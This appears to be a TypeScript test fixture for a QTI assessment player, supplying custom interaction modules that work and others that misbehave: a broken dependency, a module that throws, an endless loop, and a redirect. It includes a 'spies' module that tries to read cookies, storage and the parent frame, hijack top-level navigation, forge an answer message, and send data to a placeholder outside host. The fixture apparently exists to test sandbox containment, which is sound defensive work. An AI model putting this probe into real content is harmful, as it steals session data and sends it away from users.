import { counterItem2, counterItem3, portableDraft } from '#lib/qti/fixtures/build-item.ts'

/** Items that run a module of their own, and the modules: a counter in the ways in which modules are written, and such as misbehave. */

const named = (xml: string, identifier: string) =>
  xml.replace(/identifier="counter-[23]"/, `identifier="${identifier}"`)

const inModule = (identifier: string, module: string) =>
  named(
    counterItem3({
      inside: `<qti-interaction-modules><qti-interaction-module id="counter" primary-path="${module}"/></qti-interaction-modules>`,
    }),
    identifier,
  )

const telling = (xml: string) =>
  xml.replace('base-type="integer"', 'base-type="string"').replace('<qti-value>3<', '<qti-value>told<')

export const customItems: Record<string, string> = {
  'custom-3': named(
    counterItem3({
      inside:
        '<qti-interaction-modules><qti-interaction-module id="counter" primary-path="cdn/gone.js" fallback-path="modules/counter"/></qti-interaction-modules>',
    }),
    'custom-3',
  ),
  // Without a size a picture is as wide as its frame.
  'custom-2': named(counterItem2().replace('<svg ', '<svg width="9" height="9" '), 'custom-2'),
  'custom-draft': named(counterItem2(portableDraft), 'custom-draft'),
  'custom-es': inModule('custom-es', 'modules/counter-es.js'),
  'custom-second': named(
    counterItem3({
      inside:
        '<qti-interaction-modules><qti-interaction-module id="counter" primary-path="modules/broken.js" fallback-path="modules/counter"/></qti-interaction-modules>',
    }),
    'custom-second',
  ),
  'custom-gone': inModule('custom-gone', 'cdn/gone.js'),
  'custom-throws': inModule('custom-throws', 'modules/throws.js'),
  'custom-hangs': inModule('custom-hangs', 'modules/hangs.js'),
  'custom-leaves': inModule('custom-leaves', 'modules/leaves.js'),
  'custom-spies': telling(inModule('custom-spies', 'modules/spies.js')),
}

const counter = `
  const button = document.createElement('button')
  button.textContent = count > 0 ? 'Count, was ' + count : 'Count'
  button.onclick = () => { count = Math.min(max, count + 1); button.textContent = 'Count, now ' + count }
  dom.append(button)
  const getResponse = () => ({ base: { integer: count } })
`

const version1 = `{
  typeIdentifier: 'urn:example:counter',
  getInstance(dom, configuration, state) {
    const max = Number(configuration.properties.max ?? configuration.properties.maxValue)
    let count = configuration.boundTo[configuration.responseIdentifier].base?.integer ?? 0
    ${counter}
    configuration.onready({ getResponse, getState: () => '', oncompleted() {} }, state)
  },
}`

/** By their paths in the package. */
export const customModules: Record<string, string> = {
  'modules/counter.js': `define(['qtiCustomInteractionContext'], function (context) { context.register(${version1}) })`,
  'modules/counter-es.js': `const interaction = ${version1}\nexport default interaction\n`,
  'modules/broken.js': 'define(["nowhere/to/be/found"], function () {',
  'modules/throws.js': `define([], () => ({ getInstance() { throw new Error('no') } }))`,
  'modules/hangs.js': `define([], () => ({ getInstance() { for (;;) {} } }))`,
  'modules/leaves.js': `define([], () => ({ getInstance() { location.href = '/api/health?leak=location' } }))`,
  'counterInteraction/runtime/js/renderer.js': `define([], () => ({ show: (dom, text) => { dom.querySelector('button').title = text } }))`,
  'counterInteraction/runtime/counter.amd.js': `define(['qtiCustomInteractionContext', 'counterInteraction/runtime/js/renderer'], function (context, renderer) {
    context.register({
      getTypeIdentifier: () => 'counterInteraction',
      initialize(id, dom, config) {
        const max = Number(config.maxValue)
        let count = 0
        ${counter}
        this.getResponse = getResponse
        renderer.show(dom, 'a counter')
        context.notifyReady(this)
      },
    })
  })`,
  'modules/spies.js': `define([], () => ({
    getInstance(dom, configuration) {
      const told = {}
      const keep = (name, run) => { try { told[name] = String(run()) } catch (error) { told[name] = 'refused' } }
      const later = (name, promise) => promise.then(() => { told[name] = 'done' }, () => { told[name] = 'refused' })
      const base = new URL(document.baseURI).origin
      keep('cookie', () => document.cookie)
      keep('storage', () => localStorage.length)
      keep('database', () => indexedDB.open('x').onsuccess)
      keep('parent', () => parent.document.title)
      keep('top', () => { top.location.href = base + '/api/health?leak=top'; return 'set' })
      keep('open', () => window.open(base + '/api/health?leak=open'))
      keep('request', () => { const r = new XMLHttpRequest(); r.open('GET', base + '/api/health?leak=xhr', false); r.send(); return r.status })
      keep('worker', () => new Worker(base + '/api/health?leak=worker') && 'made')
      keep('peer', () => typeof RTCPeerConnection)
      later('fetch', fetch(base + '/api/health?leak=fetch', { credentials: 'include' }))
      later('outside', fetch('OUTSIDE/leak', { mode: 'no-cors' }))
      keep('beacon', () => navigator.sendBeacon(base + '/api/health?leak=beacon', 'x'))
      const picture = new Image(); picture.src = base + '/api/health?leak=image'
      const script = document.createElement('script'); script.src = base + '/api/health?leak=script'; document.head.append(script)
      const inner = document.createElement('iframe'); inner.src = base + '/api/health?leak=frame'; dom.append(inner)
      const form = document.createElement('form'); form.action = base + '/api/health?leak=form'; dom.append(form); form.submit()
      parent.postMessage({ kind: 'answer', answer: { base: { string: 'told' } } }, '*')
      const button = document.createElement('button')
      button.textContent = 'Tell'
      dom.append(button)
      configuration.onready({ getResponse: () => ({ base: { string: JSON.stringify(told) } }) })
    },
  }))`,
}
